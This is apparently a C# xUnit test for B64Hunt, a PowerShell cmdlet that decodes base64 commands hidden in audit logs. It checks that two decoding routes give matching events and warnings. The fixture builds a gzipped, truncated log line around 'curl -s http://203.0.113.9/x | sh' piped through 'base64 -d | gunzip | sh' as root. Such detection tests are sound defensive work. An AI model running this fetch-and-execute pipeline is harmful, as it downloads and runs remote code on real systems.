using System;
using System.Collections;
using System.Collections.Generic;
using System.IO;
using System.IO.Compression;
using System.Linq;
using System.Management.Automation;
using System.Management.Automation.Runspaces;
using System.Text;
using B64Hunt.Commands;
using B64Hunt.Model;
using Xunit;

namespace B64Hunt.Tests.Commands
{
    /// <summary>
    /// Without a time window Get-B64Command decodes a line in the reader's filter, before its record is built; with one,
    /// the record's time decides first. Both routes must give the same events, warnings and summary.
    /// </summary>
    public sealed class GetB64CommandDecodeFirstTests : IDisposable
    {
        private readonly string _dir = Path.Combine(Path.GetTempPath(), "b64hunt-decodefirst-" + Guid.NewGuid().ToString("N"));

        public GetB64CommandDecodeFirstTests() => Directory.CreateDirectory(_dir);

        public void Dispose() => Directory.Delete(_dir, true);

        private static PowerShell Shell()
        {
            var iss = InitialSessionState.CreateDefault2();
            iss.Commands.Add(new SessionStateCmdletEntry("Get-B64Command", typeof(GetB64CommandCommand), null));
            return PowerShell.Create(iss);
        }

        /// <summary>The bundled sample plus a line whose payload is a cut gzip stream: a warning and no payload.</summary>
        private string SampleWithACutGzipLine()
        {
            string sample = Path.Combine(AppContext.BaseDirectory, "data", "sample", "auoms-syslog.log");
            byte[] gz;
            using (var buffer = new MemoryStream())
            {
                using (var gzip = new GZipStream(buffer, CompressionLevel.Optimal, leaveOpen: true))
                {
                    byte[] data = Encoding.UTF8.GetBytes(string.Concat(Enumerable.Repeat("curl -s http://203.0.113.9/x | sh; ", 40)));
                    gzip.Write(data, 0, data.Length);
                }
                gz = buffer.ToArray();
            }
            string cut = Convert.ToBase64String(gz, 0, gz.Length / 2);
            string line = "Oct  1 00:05:00 web-7 auoms[837]: type=AUOMS_EXECVE audit(1790813100.000:1): user=root uid=0 comm=\"bash\" exe=\"/usr/bin/bash\" cmdline=\"bash -c echo "
                + cut + " | base64 -d | gunzip | sh\"";
            string path = Path.Combine(_dir, "auoms.log");
            File.WriteAllLines(path, File.ReadLines(sample).Append(line));
            return path;
        }

        private static (List<string> Events, List<string> Warnings, string Summary) Run(string path, bool window)
        {
            using var ps = Shell();
            ps.AddCommand("Get-B64Command").AddParameter("Path", path).AddParameter("Verbose", true);
            if (window) ps.AddParameter("Start", new DateTime(1971, 1, 1, 0, 0, 0, DateTimeKind.Utc));
            var events = ps.Invoke().Select(o => Describe((CommandEvent)o.BaseObject)).ToList();
            // The sample holds malformed lines on purpose: their errors must be the same on both routes too.
            var warnings = ps.Streams.Warning.Select(w => w.Message)
                .Concat(ps.Streams.Error.Select(r => r.FullyQualifiedErrorId + ": " + r.Exception.Message)).ToList();
            string summary = ps.Streams.Verbose.Select(v => v.Message).Single(m => m.StartsWith("Read ", StringComparison.Ordinal));
            return (events, warnings, summary);
        }

        // Every public property, lists joined: a difference anywhere shows.
        private static string Describe(CommandEvent e) => string.Join("|", typeof(CommandEvent).GetProperties()
            .Select(p => p.Name + "=" + Text(p.GetValue(e))));

        private static string Text(object? value) => value switch
        {
            null => "<null>",
            string s => s,
            IEnumerable items => "[" + string.Join(",", items.Cast<object?>().Select(Text)) + "]",
            _ => Convert.ToString(value, System.Globalization.CultureInfo.InvariantCulture) ?? "",
        };

        [Fact]
        public void DecodingInTheReadersFilterGivesTheSameEventsWarningsAndSummary()
        {
            string path = SampleWithACutGzipLine();
            var first = Run(path, window: false);
            var timed = Run(path, window: true);
            Assert.True(first.Events.Count > 100, $"only {first.Events.Count} events");
            Assert.Equal(timed.Events, first.Events);
            Assert.Contains(first.Warnings, w => w.Contains("corrupt or truncated", StringComparison.Ordinal));
            Assert.Equal(timed.Warnings, first.Warnings);
            Assert.Equal(timed.Summary, first.Summary);
        }
    }
}
